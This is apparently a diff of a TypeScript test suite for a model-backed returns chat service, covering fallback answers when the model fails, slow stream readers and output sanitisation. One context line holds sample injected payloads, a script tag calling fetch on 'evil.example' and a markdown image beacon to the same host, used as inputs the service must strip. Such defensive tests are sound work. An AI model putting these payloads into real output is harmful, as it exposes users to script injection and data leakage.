@@ -153,21 +153,6 @@ describe('a model behind the API', () => {
     await chat.say('Another question');
   });
 
-  it.each(['ThrottlingException', 'AccessDeniedException', 'ServiceUnavailableException', 'ModelErrorException', 'InternalServerException'])('that fails with %s is stood in for by the quoted answer', async (name) => {
-    play(() => Promise.reject(named(name)));
-    const { reply } = await (await open()).say(QUESTION);
-    expect(reply).toMatchObject({ kind: 'answer', text: expect.stringContaining(QUOTE), sources: [expect.objectContaining({ id: 'return-window' })] });
-  });
-
-  it('that breaks off in the middle is stood in for, and what stays is the whole reply', async () => {
-    play(() => breakAfter('You have 90 days after delivery [1]. And also ', named('ModelErrorException')));
-    const chat = await open();
-    const { reply } = answered(MessageResponse.parse((await chat.stream(QUESTION)).at(-1)?.data));
-    expect(reply.text).toContain(QUOTE);
-    expect(reply.text).not.toContain('90 days');
-    expect((await chat.transcript()).turns).toMatchObject([{ reply }]);
-  });
-
   it.each([
     ['a script', 'Sure [1]. <script>fetch("https://evil.example")</script> Done.', /script|evil/i],
     ['an image that reports', 'Look ![x](https://evil.example/p.png?q=1) here [1].', /evil|!\[/],
@@ -195,6 +180,27 @@ describe('a model behind the API', () => {
     expect(prompt.split(/<\/\s*documents/)).toHaveLength(2);
   });
 
+  it('costs no other conversation when its reader is slow', async () => {
+    // More than the sockets between model and reader hold.
+    const sentences = 400;
+    play(async function* () {
+      for (let index = 0; index < sentences; index++) {
+        if (index % 50 === 0) await breathe();
+        yield `You can return unused items within 30 days of delivery [1]. `;
+      }
+    });
+    const [slow, quick] = [await open(), await open()];
+    const events = eventsOf(await slow.send(QUESTION, { accept: 'text/event-stream' }));
+    for (const event of ['turn', 'delta']) expect((await events.next()).value).toMatchObject({ event });
+    // Nobody reads on, and another conversation gets its answers.
+    play(() => say('You can return unused items within 30 days of delivery [1].'));
+    for (const question of [QUESTION, 'What does sending it back cost?']) expect((await quick.say(question)).reply.kind).toBe('answer');
+    let last: StreamedEvent | undefined;
+    for await (const event of events) last = event;
+    expect(answered(MessageResponse.parse(last?.data)).reply.text.match(/30 days/g)).toHaveLength(sentences);
+    expect((await slow.transcript()).turns).toHaveLength(1);
+  });
+
   it('is listened to until the end when the client goes away', async () => {
     const release = deferred<undefined>();
     play(async function* () {
@@ -211,5 +217,30 @@ describe('a model behind the API', () => {
     await expect(events.next()).rejects.toThrow(/abort/i);
     release.resolve(undefined);
     await expect.poll(async () => (await chat.transcript()).turns, { timeout: 10_000 }).toMatchObject([{ status: 'answered', reply: { text: 'You have 30 days after delivery. Club members have 60 days.' } }]);
+  });
+});
+
+/** An estate of its own: after three failures a breaker leaves the model alone, and every turn is quoted. */
+describe('a model that fails', () => {
+  let model: Converse = () => say('unset');
+  const estate = useEstate('staging', () => ({ converse: (request) => model(request) }));
+  const open = (): Promise<Chat> => Chat.open(estate().url);
+  const play = (next: Converse): void => {
+    model = next;
+  };
+
+  it('that breaks off in the middle is stood in for, and what stays is the whole reply', async () => {
+    play(() => breakAfter('You have 90 days after delivery [1]. And also ', named('ModelErrorException')));
+    const chat = await open();
+    const { reply } = answered(MessageResponse.parse((await chat.stream(QUESTION)).at(-1)?.data));
+    expect(reply.text).toContain(QUOTE);
+    expect(reply.text).not.toContain('90 days');
+    expect((await chat.transcript()).turns).toMatchObject([{ reply }]);
+  });
+
+  it.each(['ThrottlingException', 'AccessDeniedException', 'ServiceUnavailableException', 'ModelErrorException', 'InternalServerException'])('that fails with %s is stood in for by the quoted answer', async (name) => {
+    play(() => Promise.reject(named(name)));
+    const { reply } = await (await open()).say(QUESTION);
+    expect(reply).toMatchObject({ kind: 'answer', text: expect.stringContaining(QUOTE), sources: [expect.objectContaining({ id: 'return-window' })] });
   });
 });
